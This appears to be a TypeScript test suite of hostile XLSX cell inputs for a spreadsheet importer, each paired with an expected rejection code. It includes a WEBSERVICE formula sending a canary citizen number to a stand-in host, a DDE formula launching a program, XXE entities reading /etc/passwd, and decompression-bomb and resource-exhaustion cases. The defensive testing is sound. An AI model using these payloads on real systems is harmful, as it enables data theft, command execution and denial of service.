import { CANARY_BSN, CANARY_NAME } from "../canary.ts";
import { accepted, type CaseLine, casesOf, type Expected } from "../hostile-case.ts";
import {
  cellXml,
  ofArnhem,
  rowXml,
  sheetXmlOf,
  soundPart,
  trajectory,
  trajectoryHeader,
  trajectoryWith,
  withFormat,
  withSharedTexts,
  workbookWithRows,
  workbookWithSheet,
} from "../inputs/workbook.ts";

const sound = rowXml(trajectory);
const header = rowXml(trajectoryHeader);
const start = (xml: string) => workbookWithRows(trajectoryWith("begindatum", xml));
const formatted = (code: string, value: string, changes = {}) =>
  workbookWithRows(trajectoryWith("begindatum", `<c s="1"><v>${value}</v></c>`), { ...withFormat(code), ...changes });
const _numbered = (row: number) => `<row r="${row}">${trajectory.map(cellXml).join("")}</row>`;
const date = (name: string, value: string, expect: Expected): CaseLine => [
  `date ${name}`,
  expect,
  "takes it for another day",
  () => formatted("yyyy-mm-dd", value),
];

/** What stands in the cells. */
const lines: readonly CaseLine[] = [
  ["formula with its value", accepted, "calculates it", () => start('<c t="str"><f>A1</f><v>2025-01-08</v></c>')],
  [
    "formula without a value",
    "workbook/formula-without-value",
    "takes it for empty",
    () => start("<c><f>TODAY()</f></c>"),
  ],
  [
    "formula that fetches",
    "workbook/formula-without-value",
    "fetches it",
    () => start(`<c><f>WEBSERVICE("http://x/${CANARY_BSN}")</f></c>`),
  ],
  [
    "formula that starts a program",
    "workbook/formula-without-value",
    "starts it",
    () => start("<c><f>cmd|'/c calc'!A0</f></c>"),
  ],
  ["error value", "workbook/error-value", "takes it for a text", () => start('<c t="e"><v>#N/A</v></c>')],
  ["boolean", "date/not-a-date", "takes it for a number", () => start('<c t="b"><v>1</v></c>')],
  ["unknown type of cell", "workbook/invalid-value", "takes it for a text", () => start('<c t="zz"><v>1</v></c>')],
  ["number that is none", "workbook/invalid-value", "takes it for zero", () => start("<c><v>0x1F</v></c>")],
  ["number without end", "workbook/invalid-value", "takes it for a number", () => start("<c><v>1e999</v></c>")],
  ["date without a format", "date/serial-number", "takes it for a number", () => start("<c><v>45665</v></c>")],
  date("as a number", "45665", accepted),
  date("29 February 1900, which never was", "60", "workbook/invalid-date"),
  date("below zero", "-1", "workbook/invalid-date"),
  date("with a part of a day", "45665.75", accepted),
  date("after the year 9999", "2958466", "workbook/invalid-date"),
  date("of twenty digits", "12345678901234567890", "workbook/invalid-date"),
  [
    "dates since 1904",
    accepted,
    "reads days four years too early",
    () =>
      formatted("yyyy-mm-dd", "44203", {
        "xl/workbook.xml": soundPart("xl/workbook.xml").replace("<bookViews>", '<workbookPr date1904="1"/><bookViews>'),
      }),
  ],
  ["date format that hides its value", accepted, "reads nothing", () => formatted("yyyy-mm-dd;;;", "45665")],
  [
    "format of a megabyte",
    "date/serial-number",
    "searches it for hours",
    () => formatted(`${"[$-413]".repeat(100_000)}d`, "45665"),
  ],
  [
    "number of a person as a number",
    accepted,
    "loses a zero",
    () => workbookWithRows(trajectoryWith("bsn", `<c><v>${CANARY_BSN}</v></c>`)),
  ],
  [
    "number of a person that was rounded",
    "person/bsn-rounded",
    "reads another person",
    () => workbookWithRows(trajectoryWith("bsn", cellXml("9,9999E+08"))),
  ],
  [
    "municipality that lost its zero",
    "code/municipality-lost-zero",
    "reads another municipality",
    () => workbookWithRows(trajectoryWith("gemeentecode", "<c><v>202</v></c>")),
  ],
  [
    "shared text",
    accepted,
    "reads its number",
    () =>
      workbookWithRows(
        trajectoryWith("begindatum", '<c t="s"><v>0</v></c>'),
        withSharedTexts("<si><t>2025-01-08</t></si>"),
      ),
  ],
  [
    "shared text in runs",
    accepted,
    "reads the first",
    () =>
      workbookWithRows(
        trajectoryWith("begindatum", '<c t="s"><v>0</v></c>'),
        withSharedTexts("<si><r><t>2025-</t></r><r><t>01-08</t></r></si>"),
      ),
  ],
  [
    "shared text that is not there",
    "workbook/missing-text",
    "takes it for empty",
    () =>
      workbookWithRows(trajectoryWith("begindatum", '<c t="s"><v>99</v></c>'), withSharedTexts("<si><t>a</t></si>")),
  ],
  ["no shared texts", "workbook/missing-text", "takes it for empty", () => start('<c t="s"><v>0</v></c>')],
  [
    "one huge shared text, used often",
    "workbook/text-too-large",
    "copies it for every cell",
    () =>
      workbookWithRows(
        `<row>${'<c t="s"><v>0</v></c>'.repeat(13)}</row>`.repeat(200),
        withSharedTexts(`<si><t>${`${CANARY_NAME}abcdefgh ijk `.repeat(30_000)}</t></si>`),
      ),
  ],
  [
    "100,000 shared texts packed a thousandfold",
    "workbook/suspicious-compression",
    "keeps them all",
    () => workbookWithRows(sound, withSharedTexts("<si><t>a</t></si>".repeat(100_000))),
  ],
  [
    "DOCTYPE",
    "workbook/unsafe-xml",
    "fetches what it names",
    () => workbookWithSheet(`<!DOCTYPE x SYSTEM "file:///etc/passwd">${sheetXmlOf(header + sound)}`),
  ],
  [
    "entity",
    "workbook/unsafe-xml",
    "puts a file in a cell",
    () => workbookWithSheet(`<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${sheetXmlOf(rowXml(["&a;"]))}`),
  ],
  [
    "100,000 levels",
    "workbook/unsafe-xml",
    "runs out of stack",
    () => workbookWithSheet(sheetXmlOf(`${header}${"<a>".repeat(100)}`)),
  ],
  [
    "cell of 200,000 characters",
    "workbook/text-too-large",
    "keeps it",
    () => start(cellXml(`${CANARY_NAME}${"abc de".repeat(33_000)}`)),
  ],
  [
    "control character written as _x0007_",
    "workbook/control-character",
    "puts it in a text",
    () => start(cellXml("a_x0007_b")),
  ],
  [
    "faults in every cell of 20,000 rows",
    "workbook/error-value",
    "keeps a finding per cell",
    () =>
      workbookWithRows(
        Array.from(
          { length: 20_000 },
          (_, row) =>
            `<row r="${row + 2}" x="${(row * 7_919) % 100_003}">${`<c t="e"><v>#N/A${row}</v></c>`.repeat(13)}</row>`,
        ).join(""),
      ),
  ],
];

export const xlsxCells = casesOf(lines, ofArnhem);
